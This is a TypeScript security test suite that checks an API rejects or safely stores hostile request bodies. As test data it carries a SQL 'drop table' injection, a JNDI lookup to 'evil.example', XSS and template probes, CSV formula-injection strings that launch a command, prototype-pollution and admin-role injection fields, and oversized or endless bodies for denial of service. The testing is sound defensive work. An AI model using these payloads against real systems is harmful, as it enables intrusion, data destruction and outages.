import assert from 'node:assert/strict'
import { describe } from 'node:test'
import type { AnyOperation, Operation } from '../../src/operation.ts'
import { OPERATIONS } from '../../src/operations.ts'
import { nextUlid, reportCommand, signUpCommand } from '../harness.ts'
import { makeExamples } from '../suites/examples.ts'
import type { Example } from '../suites/examples.ts'
import { attack } from './arena.ts'
import type { Arena, Ask } from './arena.ts'

/** What would be worth something, if a body could say it. */
const INJECTED: Record<string, unknown> = {
  role: 'street',
  roles: ['street'],
  kind: 'admin',
  grants: [{ role: 'street', gridId: 'root' }],
  state: 'closed',
  personId: 'head-1',
  orgId: 'org-b',
  gridId: 'root',
  gridPath: ['root'],
  districtId: 'other',
  receipt: 'AAAA-BBBB-CC',
  createdAt: '2020-01-01T00:00:00+08:00',
  history: [],
  actor: { id: 'x', role: 'street' },
  version: 99,
  isAdmin: true,
  reporterId: 'head-1',
}

/** Fields that JavaScript takes for more than fields. */
const PROTOTYPES: Record<string, string> = {
  __proto__: '{"role":"street","minor":false}',
  constructor: '{"prototype":{"role":"street"}}',
  prototype: '{"role":"street"}',
  toString: '"x"',
  hasOwnProperty: '"x"',
}

const SQL = "'); drop table people; -- ${jndi:ldap://evil.example} {{7*7}} <img src=x onerror=alert(1)>"

const commands = (OPERATIONS as readonly AnyOperation[] as unknown as Operation<unknown, object>[]).filter(({ json }) => json)
const knows = ({ json }: Operation<unknown, object>, field: string): boolean =>
  field in ((json!.schema as { _zod: { def: { shape?: object } } })._zod.def.shape ?? {})

const deep = (levels: number): string => `${'{"a":'.repeat(levels)}1${'}'.repeat(levels)}`

export function bodies(arena: Arena): void {
  describe('bodies', () => {
    const { ask, refuses, untouched } = arena
    interface Made extends Example {
      operation: (typeof commands)[number]
    }
    let made: Promise<Made[]> | undefined
    /** Each call that takes JSON, as it would be answered well. Whatever is refused leaves it so. */
    const examples = () => (made ??= makeAll())
    const makeAll = async (): Promise<Made[]> => {
      const make = await makeExamples(arena.district)
      const all: Made[] = []
      for (const operation of commands) all.push({ operation, ...(await make[operation.id]!()) })
      return all
    }
    const refusedByAll = async (change: (json: string) => string, which: (operation: Made['operation']) => boolean) => {
      const wanted = (await examples()).filter(({ operation }) => which(operation))
      assert.ok(wanted.length > 10)
      await untouched(async () => {
        for (const { operation, path, as, body: good, headers: own } of wanted) {
          const { id } = good as { id?: string }
          const headers = { 'content-type': 'application/json', ...(id && { 'idempotency-key': id }), ...own }
          const { status, body } = await ask({ method: operation.method, path, as, body: change(JSON.stringify(good)), headers })
          assert.deepEqual([operation.id, status, body?.code], [operation.id, 422, 'invalid-body'])
        }
      })
    }
    const withField = (field: string, value: string) => (json: string) =>
      `{${JSON.stringify(field)}:${value}${json === '{}' ? '' : ','}${json.slice(1)}`

    for (const [field, value] of Object.entries(INJECTED)) {
      attack(`a field "${field}" in the body of every call that does not know it`, async () => {
        await refusedByAll(withField(field, JSON.stringify(value)), (operation) => !knows(operation, field))
      })
    }
    for (const [field, value] of Object.entries(PROTOTYPES)) {
      attack(`a field "${field}" in the body of every call`, async () => {
        await refusedByAll(withField(field, value), () => true)
        assert.equal(({} as { role?: string }).role, undefined)
      })
    }

    const report = (body: unknown, headers: Record<string, string | undefined> = {}): Ask => ({
      method: 'POST',
      path: '/v1/issues',
      as: 'public',
      body,
      headers: { 'content-type': 'application/json', ...headers },
    })
    const inside = (where: string, value: string) => reportCommand({ [where]: JSON.parse(value) as object })

    for (const where of ['attributes', 'place', 'consent'] as const) {
      attack(`a field __proto__ in a report’s ${where}`, async () => {
        await refuses(422, 'invalid-body', report(inside(where, '{"__proto__":{"by":"point"},"x":1}')))
      })
    }

    attack('a name for a list: prototype fields as attributes of a report', async () => {
      await refuses(422, 'invalid-body', report(inside('attributes', '{"constructor":"x","hasOwnProperty":"y"}')))
    })

    attack('SQL, scripts and templates in every text of a report: kept letter by letter, and nothing more', async () => {
      const body = reportCommand({ description: SQL, placeText: SQL.slice(0, 60) })
      assert.equal((await ask({ path: '/v1/issues', as: 'public', body })).status, 201)
      const { body: read } = await ask({ path: `/v1/issues/${body.id}`, as: 'street' })
      assert.deepEqual([read.description, read.placeText], [SQL, SQL.slice(0, 60)])
    })

    attack('SQL in the name of a person', async () => {
      const body = { id: nextUlid(), name: "张'); drop table people;--" }
      assert.equal((await ask({ path: '/v1/people', as: 'street', body })).status, 201)
      assert.equal((await ask({ path: `/v1/people/${body.id}`, as: 'street' })).body.name, body.name)
    })

    for (const [nth, name] of ['=cmd|’/c calc’!A1', '+1+1', '-2+3', '@SUM(A1)', '\t=1+1', '\r=1+1'].entries()) {
      attack(`a formula in the table of sign-ups: ${JSON.stringify(name)}`, async () => {
        const { id } = signUpCommand()
        const signed = await ask({
          path: '/v1/sign-ups',
          as: `employee:CSV${nth}`,
          body: signUpCommand({ id, slotId: 'sh-later' }),
        })
        assert.equal(signed.status, 201)
        await rename(id, name)
        const { body } = await ask({ path: '/v1/organisations/org-a/sign-ups.csv', as: 'liaison' })
        const cells = (body as string).split(/[,\n]/).map((cell) => cell.replace(/^\ufeff?"?/, ''))
        assert.ok(cells.some((cell) => cell.includes(name.trim())))
        for (const cell of cells) assert.doesNotMatch(cell, /^[=+@\t\r]|^-\D|^-2\+3/)
      })
    }
    /** As a table was filled before names were held to rules. */
    const rename = async (signUpId: string, name: string) => {
      const { db } = arena.context
      const { person_id: id } = await db
        .selectFrom('sign_ups')
        .select('person_id')
        .where('id', '=', signUpId)
        .executeTakeFirstOrThrow()
      const sealed = arena.district.keyring.seal(name, { districtId: 'main', table: 'people', column: 'name_sealed', id: id! })
      await db.updateTable('people').set({ name_sealed: sealed }).where('id', '=', id!).execute()
    }

    for (const [what, text] of [
      ['U+0000', 'a\u0000b'],
      ['half a surrogate pair', 'a\ud800b'],
    ] as const) {
      attack(
        `${what} in a text`,
        async () => void (await refuses(422, 'invalid-body', report(reportCommand({ description: text })))),
      )
      attack(`${what} in the name of a field`, async () => {
        await refuses(422, 'invalid-body', report(reportCommand({ attributes: { [text]: 1 } })))
      })
    }

    attack('a body of forty thousand levels', async () => {
      await refuses(422, 'invalid-body', report(deep(40_000)))
    })

    attack('a list of a hundred thousand lists', async () => {
      await refuses(422, 'invalid-body', report('['.repeat(100_000) + ']'.repeat(100_000)))
    })

    attack(
      'a body of ten megabytes',
      async () => void (await refuses(413, 'body-too-large', report(`"${'x'.repeat(10_000_000)}"`))),
    )

    attack('a body larger than it says', async () => {
      const headers = { 'content-length': '10' }
      await refuses(413, 'body-too-large', report(`"${'x'.repeat(1_000_000)}"`, headers))
    })

    attack('a body that never ends', async () => {
      let sent = 0
      const pull = (controller: ReadableStreamDefaultController) => {
        sent += 65_536
        controller.enqueue(new Uint8Array(65_536).fill(32))
      }
      await refuses(413, 'body-too-large', report(new ReadableStream({ pull })))
      assert.ok(sent < 5_000_000, `${sent} bytes were read`)
    })

    attack('a number of a hundred thousand digits', async () => {
      const body = reportCommand({ attributes: { count: 1 } })
      await refuses(422, 'invalid-body', report(JSON.stringify(body).replace('"count":1', `"count":${'9'.repeat(100_000)}`)))
    })

    attack('a text of a hundred thousand letters', async () => {
      await refuses(422, 'invalid-body', report(reportCommand({ description: '长'.repeat(80_000) })))
    })

    attack('a field twice, of which the last one says that somebody is staff', async () => {
      const body = reportCommand()
      const twice = JSON.stringify(body).replace(/}$/, ',"source":"keeper"}')
      await refuses(409, 'refused', report(twice, { 'idempotency-key': body.id }))
    })

    attack('the id of a command twice, of which only one is in the header', async () => {
      const body = reportCommand()
      const twice = JSON.stringify(body).replace(/}$/, `,"id":"${nextUlid()}"}`)
      await refuses(422, 'idempotency-key-mismatch', report(twice, { 'idempotency-key': body.id }))
    })
  })
}
